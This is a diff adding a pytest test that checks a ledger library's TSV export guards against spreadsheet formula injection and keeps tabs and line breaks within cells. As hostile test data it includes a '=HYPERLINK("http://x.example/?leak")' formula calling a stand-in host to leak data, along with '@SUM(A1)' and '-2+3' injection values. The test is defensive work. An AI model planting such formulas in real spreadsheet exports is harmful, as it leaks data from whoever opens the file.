@@ -204,6 +204,37 @@ def test_convert_without_the_guard_writes_cells_verbatim(hostile_plan, tmp_path)
     assert plan_delimited(plan, ";", formula_guard=False) == out.read_text(encoding="utf-8")
 
 
+def test_plan_to_tsv_guards_formulas_and_keeps_a_label_s_tab_or_line_break_in_its_cell():
+    # Plan.to_tsv, the plan's own TSV export, joined its cells with tabs as they were: a
+    # ledger's pivot keyed by a beneficiary "=HYPERLINK(...)" opened in a spreadsheet ran it,
+    # and a label holding a tab or a line break split its row (read back: "this row has 6
+    # cells where the header has 5")
+    import csv
+    ledger = essconv.Ledger.from_columns(
+        {"f": ['=HYPERLINK("http://x.example/?leak")', "a\tb", "c\nd", "CDC"],
+         "g": ["@SUM(A1)", "x", "x", "-2+3"],
+         "m": [Decimal("1"), Decimal("2"), Decimal("3"), Decimal("-4.50")]}, amount="m")
+    pivot = ledger.pivot("f", "g")
+    text = pivot.to_tsv()
+    rows = list(csv.reader(text.splitlines(keepends=True), delimiter="\t"))
+    assert [len(r) for r in rows] == [5] * 6
+    cells = [c for row in rows for c in row]
+    assert '\'=HYPERLINK("http://x.example/?leak")' in cells and "'@SUM(A1)" in cells
+    assert "'-2+3" in cells and "a\tb" in cells and "c\nd" in cells
+    assert "-4,50" in cells and rows[-1][-1] == "1,50"   # amounts stay numbers
+    for c in cells:                                # nothing a spreadsheet would run
+        assert not c.startswith(("=", "+", "@", "\t", "\r")), c
+        assert not c.startswith("-") or re.fullmatch(r"-[\d ]+(,\d+)?", c), c
+    back = essconv.read_plan(text.encode())
+    assert back.total() == pivot.total() and len(back.lines) == 4
+    # the embedded plan, read back from its TSV, is the same plan
+    plan = essconv.default().plan(2009)
+    assert essconv.read_plan(plan.to_tsv().encode()).to_dict()["lines"] == plan.to_dict()["lines"]
+    assert pivot.to_tsv(formula_guard=False).startswith("en €\t@SUM(A1)\t")
+    with pytest.raises(essconv.ArgumentTypeError, match="^formula_guard must be True or False"):
+        pivot.to_tsv(formula_guard="no")
+
+
 def test_xlsx_export_writes_labels_as_strings_never_formulas(hostile_plan, tmp_path):
     openpyxl = pytest.importorskip("openpyxl")
     out = tmp_path / "out.xlsx"
